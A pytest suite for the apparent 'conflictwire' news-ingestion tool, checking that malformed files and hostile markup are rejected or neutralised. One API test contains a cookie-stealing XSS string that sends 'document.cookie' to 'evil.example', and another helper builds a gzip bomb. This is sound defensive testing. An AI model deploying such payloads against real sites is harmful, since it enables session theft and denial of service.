"""Nothing lost, nothing let in: bad and hostile input through the real command line and the API.

1. A folder mixing good pages with every kind of bad input is ingested once by the installed
   ``conflictwire`` script.  Each bad input must get one clear error or warning (file, line or
   record, what is wrong) on stderr *and* in ``conflictwire warnings``; the good pages must be
   stored; the exit code is 1; no traceback.
2. Hostile content (scripts, event handlers, ``javascript:`` URLs, a 1 MB line, 10,000 levels of
   nesting, a gzip bomb) never crashes or hangs the reader and cleaner, and the API hands such
   text back as JSON data under a strict Content-Security-Policy.

Big and binary inputs are generated here, never committed.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

CLI = str(Path(sys.executable).with_name("conflictwire"))
FIXTURES = Path(__file__).parent / "fixtures" / "hostile"
REPORTS = {r["name"]: r["text"] for r in map(json.loads, (FIXTURES / "reports.jsonl").read_text().splitlines())}
ARABIC = "قتل ثلاثة جنود في هجوم على نقطة تفتيش قرب كركوك يوم السبت، بحسب مصدر أمني."
WESTERN = "MOSUL - Police said the “roadside bomb” wounded three soldiers near the café on Monday."

# Imported by the CLI subprocess through PYTHONPATH: open() refuses files named "locked*", the way
# it does for a user without read permission (the tests run as root, who may read anything).
LOCKED_SITECUSTOMIZE = '''
import builtins, io, os
_open = builtins.open
def _refusing_open(file, *args, **kwargs):
    if isinstance(file, (str, bytes, os.PathLike)) and os.path.basename(os.fsdecode(file)).startswith("locked"):
        raise PermissionError(13, "Permission denied", os.fsdecode(file))
    return _open(file, *args, **kwargs)
builtins.open = io.open = _refusing_open
'''


@contextmanager
def hang_guard(seconds: int = 120) -> Iterator[None]:
    """Fail (instead of hanging the suite) when a stage loops on hostile input."""

    def expire(*_args: object) -> None:
        raise TimeoutError(f"still running after {seconds} s: a hang on hostile input")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def write_warc(path: Path, gzip_records: bool = False) -> None:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    page = f"<html><body><h1>Strike</h1><p>{REPORTS['duhok_strike']}</p></body></html>".encode()
    with open(path, "wb") as out:
        writer = WARCWriter(out, gzip=gzip_records)
        writer.write_record(writer.create_warcinfo_record(path.name, {"software": "test"}))
        for uri, ctype, body in [("https://news.example/duhok", "text/html; charset=utf-8", page),
                                 ("https://news.example/map.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(64)),
                                 ("https://news.example/report.pdf", "application/pdf", b"%PDF-1.7\n" + bytes(64))]:
            headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
            writer.write_record(writer.create_warc_record(uri, "response", payload=io.BytesIO(body),
                                                          http_headers=headers))


def write_gzip_bomb_warc(path: Path, decompressed_mb: int = 210) -> None:
    """A .warc.gz of ~200 KB that inflates past the reader's 200 MB guard."""
    header = (b"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: https://bomb.example/\r\n"
              b"Content-Type: text/html\r\nContent-Length: %d\r\n\r\n" % (decompressed_mb << 20))
    zeros = bytes(1 << 20)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(header + b"<html><body>")
        for _ in range(decompressed_mb):
            out.write(zeros)


def build_mixed_folder(root: Path) -> dict[str, Path]:
    """Good pages and every kind of bad input side by side; returns the interesting paths by role."""
    root.mkdir()
    p: dict[str, Path] = {}

    def put(role: str, name: str, data: bytes | str) -> None:
        p[role] = root / name
        p[role].write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))

    put("good_txt", "good_baghdad.txt", REPORTS["baghdad_drone"])
    put("good_html", "good_erbil.html", f"<html><head><title>Drones</title></head><body><h1>Drones downed</h1>"
                                        f"<p>{REPORTS['erbil_intercept'].split(chr(10))[-1]}</p></body></html>")
    put("arabic_1256", "arabic_1256.txt", ARABIC.encode("cp1256"))
    put("western_1252", "western_1252.txt", WESTERN.encode("cp1252"))  # invalid UTF-8 (lone 0x93, 0xe9)
    put("empty", "empty.txt", b"")
    put("blank", "blank.txt", b"  \n\t\n")
    put("pdf_as_txt", "scan.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n")
    put("png_as_html", "photo.html", b"\x89PNG\r\n\x1a\n" + bytes(200))
    put("random_binary", "noise.txt", bytes(range(256)) * 8)
    put("pdf", "brief.pdf", b"%PDF-1.7\n")
    put("big", "big.txt", (REPORTS["kirkuk_checkpoint"] + "\n").encode() * (1_200_000 // 200))
    put("no_body", "no_body.html", "<html><head><title>Only a head</title></head></html>")
    put("jsonl", "wire.jsonl", "\n".join([
        json.dumps({"text": REPORTS["mosul_arrests"], "outlet": "Nineveh Tribune"}),
        '{"text": "unterminated',
        json.dumps({"title": "a record without text"}),
        json.dumps(["not", "an", "object"]),
        json.dumps({"text": 42}),
    ]) + "\n")
    put("csv", "feed.csv", 'title,text,outlet\n'
                           '"Bomb ""near"" Baqubah","' + REPORTS["diyala_ied"].replace('"', '""') + '",Baqubah Post\n'
                           '"no text here",,Desert Ledger\n'
                           '"a stray "" quote",  \n')
    write_warc(root / "crawl.warc")
    p["warc"] = root / "crawl.warc"
    write_gzip_bomb_warc(root / "bomb.warc.gz")
    p["bomb"] = root / "bomb.warc.gz"
    put("locked", "locked_report.txt", REPORTS["deir_ezzor_clash"])
    (root / "loop").mkdir()
    os.symlink("..", root / "loop" / "back_up")  # a folder loop: loop/back_up -> root
    os.symlink(root / "missing.txt", root / "dangling.txt")
    p["dangling"] = root / "dangling.txt"
    os.mkfifo(root / "pipe.txt")  # never opened: reading a FIFO would block forever
    return p


@pytest.fixture(scope="module")
def mixed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    base = tmp_path_factory.mktemp("mixed")
    paths = build_mixed_folder(base / "in")
    hooks = base / "hooks"
    hooks.mkdir()
    (hooks / "sitecustomize.py").write_text(LOCKED_SITECUSTOMIZE)
    db = f"sqlite:///{base / 'cw.db'}"
    env = {**{k: v for k, v in os.environ.items() if k != "CONFLICTWIRE_DB"}, "PYTHONPATH": str(hooks)}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([CLI, *args, "--db", db], capture_output=True, text=True, env=env, timeout=600)

    ingest = cli("ingest", str(base / "in"), "--max-file-mb", "1")
    return {"paths": paths, "ingest": ingest, "warnings": cli("warnings").stdout,
            "articles": [json.loads(line) for line in cli("export", "articles").stdout.splitlines()]}


def test_mixed_folder_exits_1_without_traceback(mixed):
    ingest = mixed["ingest"]
    assert "Traceback" not in ingest.stderr
    assert ingest.returncode == 1, ingest.stderr
    assert "input(s) rejected; the others were stored." in ingest.stderr


# role, severity, what the message must say (the path, or path:line / path#record, comes first)
EXPECTED_PROBLEMS = [
    ("empty", "", "error", "empty file (0 bytes)"),
    ("blank", "", "error", "empty file (only whitespace)"),
    ("pdf_as_txt", "", "error", "binary file (looks like PDF)"),
    ("png_as_html", "", "error", "binary file (looks like PNG image)"),
    ("random_binary", "", "error", "binary file (contains NUL bytes)"),
    ("pdf", "", "warning", "skipped: unsupported file type"),
    ("big", "", "error", "file is too large (1.5 MB; the limit is 1.0 MB)"),
    ("no_body", "", "warning", "HTML page has no body text"),
    ("jsonl", ":2", "error", "not valid JSON: Unterminated string"),
    ("jsonl", ":3", "error", 'missing or empty "text" field; record skipped'),
    ("jsonl", ":4", "error", 'expected a JSON object with a "text" field, found a list'),
    ("jsonl", ":5", "error", 'the "text" field is a number, not text'),
    # row 1's quoted text spans lines 2-5 of the file
    ("csv", ":6", "error", 'row 2: missing or empty "text" field'),
    ("csv", ":7", "error", 'row 3: missing or empty "text" field'),
    ("warc", "", "warning", "skipped 2 of 3 page records (1 not HTML (application/pdf), 1 not HTML (image/png))"),
    ("bomb", "", "error", "content is too large (over 200.0 MB once decompressed)"),
    ("locked", "", "error", "cannot read: permission denied"),
    ("dangling", "", "warning", "skipped: broken link"),
]


@pytest.mark.parametrize("role, where, severity, message", EXPECTED_PROBLEMS,
                         ids=[f"{r}{w}" for r, w, _s, _m in EXPECTED_PROBLEMS])
def test_each_bad_input_is_named_on_stderr_and_in_warnings(mixed, role, where, severity, message):
    shown = f"{mixed['paths'][role]}{where}"
    on_stderr = [line for line in mixed["ingest"].stderr.splitlines() if line.startswith(f"{severity}: {shown}: ")]
    assert any(message in line for line in on_stderr), mixed["ingest"].stderr
    listed = [line.split("\t") for line in mixed["warnings"].splitlines()]
    assert any(row[0] == severity and row[2] == shown and message in row[3] for row in listed), mixed["warnings"]


def test_good_pages_and_records_are_stored_and_decoded(mixed):
    texts = "\n".join(article["text"] for article in mixed["articles"])
    for phrase in ["killing two members of Kataib Hezbollah", "Two explosive-laden drones were shot down",
                   ARABIC, WESTERN.removeprefix("MOSUL - "), "arrested five suspected Islamic State members",
                   "A roadside bomb exploded next to a police patrol", "A Turkish air strike hit a village"]:
        assert phrase in texts
    stored = {article["document"].split("#")[0] for article in mixed["articles"]}
    paths = mixed["paths"]
    assert stored == {str(paths[r]) for r in ("good_txt", "good_html", "arabic_1256", "western_1252",
                                              "jsonl", "csv", "warc")}


# --------------------------------------------------------------------------- hostile content, in-process


def _clean_and_split(media: str, content: str):
    from conflictwire.pipeline.clean import clean
    from conflictwire.pipeline.date import date_articles
    from conflictwire.pipeline.read import make_document
    from conflictwire.pipeline.split import split

    cleaned = clean(make_document("/in/hostile", media, content, "utf-8"))
    return cleaned, date_articles(split(cleaned), cleaned)


PARAGRAPH = REPORTS["kirkuk_checkpoint"].split("\n")[-1]


@pytest.mark.parametrize("depth, tag", [(10_000, "div"), (10_000, "b"), (3_000, "font")])
def test_deeply_nested_html_keeps_its_text(depth, tag):
    # libxml2 stops at 256 levels; the cleaner falls back to a flat tag stream
    page = f"<html><body>{f'<{tag}>' * depth}<p>{PARAGRAPH}</p>{f'</{tag}>' * depth}</body></html>"
    with hang_guard():
        cleaned, articles = _clean_and_split("html", page)
    assert [a.text for a in articles] == [PARAGRAPH]


def test_unclosed_tags_by_the_thousand_keep_their_text():
    with hang_guard():
        _cleaned, articles = _clean_and_split("html", "<html><body>" + "<div><span>" * 5000 + f"<p>{PARAGRAPH}")
    assert [a.text for a in articles] == [PARAGRAPH]


@pytest.mark.parametrize("media", ["text", "html"])
def test_a_one_megabyte_line_is_read_whole(media):
    line = "rubble " * 150_000
    content = f"{line}\n\n{PARAGRAPH}\n" if media == "text" else f"<html><body><p>{line}</p><p>{PARAGRAPH}</p></body></html>"
    with hang_guard():
        _cleaned, articles = _clean_and_split(media, content)
    assert len(articles) == 1 and PARAGRAPH in articles[0].text and line.strip() in articles[0].text


def test_a_hundred_thousand_repeated_lines_do_not_stall_the_cleaner():
    with hang_guard():
        cleaned, articles = _clean_and_split("text", "Baghdad weather 31C\n" * 100_000 + PARAGRAPH)
    assert [a.text for a in articles] == [PARAGRAPH]


def test_one_huge_document_does_not_fail_its_batch_neighbours():
    from conflictwire.ingest import process_batch
    from conflictwire.pipeline.read import make_document

    good = make_document("/in/good.txt", "text", REPORTS["baghdad_drone"], "utf-8")
    huge = make_document("/in/huge.txt", "text", "word " * 240_000 + "\n\n" + PARAGRAPH, "utf-8")  # > spaCy max_length
    with hang_guard(300):
        results = process_batch([good, huge])
    assert [r.failed for r in results] == [False, False]
    assert results[0].extractions and any(e.mentions for e in results[0].extractions)


def test_script_tags_and_handlers_never_reach_article_text_from_html():
    with hang_guard():
        cleaned, (article,) = _clean_and_split("html", (FIXTURES / "hostile_markup.html").read_text())
    assert "Three rockets struck near Erbil airport" in article.text
    for code in ("document.cookie", "alert('body')", "alert('img')", "onerror", "onload", "svg-script"):
        assert code not in article.text
    # text that *shows* a tag is data, kept as the words the page printed
    assert "<script>alert('escaped')</script>" in article.text


# --------------------------------------------------------------------------- API


@pytest.fixture(scope="module")
def hostile_api(tmp_path_factory: pytest.TempPathFactory):
    from fastapi.testclient import TestClient

    from conflictwire.ingest import ingest
    from conflictwire.store.db import Store
    from conflictwire.web.app import create_app

    base = tmp_path_factory.mktemp("api")
    store = Store(f"sqlite:///{base / 'cw.db'}")
    ingest([FIXTURES / "hostile_records.jsonl", FIXTURES / "hostile_markup.html"], store)
    return TestClient(create_app(store, token=""), base_url="http://127.0.0.1")


def _assert_strict_csp(response) -> None:
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "object-src 'none'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"


def test_api_returns_hostile_article_text_as_json_data(hostile_api):
    listing = hostile_api.get("/api/articles")
    assert listing.status_code == 200
    _assert_strict_csp(listing)
    record = next(a for a in listing.json()["items"] if a["document"].endswith("#L1"))
    assert record["title"] == "<script>alert('title')</script>Car bomb in Kirkuk"  # data, not markup
    article = hostile_api.get(f"/api/articles/{record['article_id']}")
    assert article.status_code == 200 and article.headers["content-type"] == "application/json"
    _assert_strict_csp(article)
    text = article.json()["text"]
    assert "<script>fetch('https://evil.example/'+document.cookie)</script>" in text
    assert "<a href=\"javascript:alert('a')\">" in text


def test_api_raw_page_is_inert_plain_text_in_a_sandbox(hostile_api):
    record = next(a for a in hostile_api.get("/api/articles").json()["items"] if a["document"].endswith(".html"))
    raw = hostile_api.get(f"/api/articles/{record['article_id']}/raw")
    assert raw.status_code == 200 and raw.headers["content-type"].startswith("text/plain")
    assert raw.headers["content-security-policy"].startswith("sandbox")
    assert "<script>document.location" in raw.text  # returned as it was read, never rendered


def test_api_events_and_exports_of_hostile_text_keep_the_csp(hostile_api):
    for url in ("/api/events", "/api/sources", "/api/export?kind=articles&format=jsonl",
                "/api/export?kind=events&format=geojson"):
        response = hostile_api.get(url)
        assert response.status_code == 200, url
        _assert_strict_csp(response)
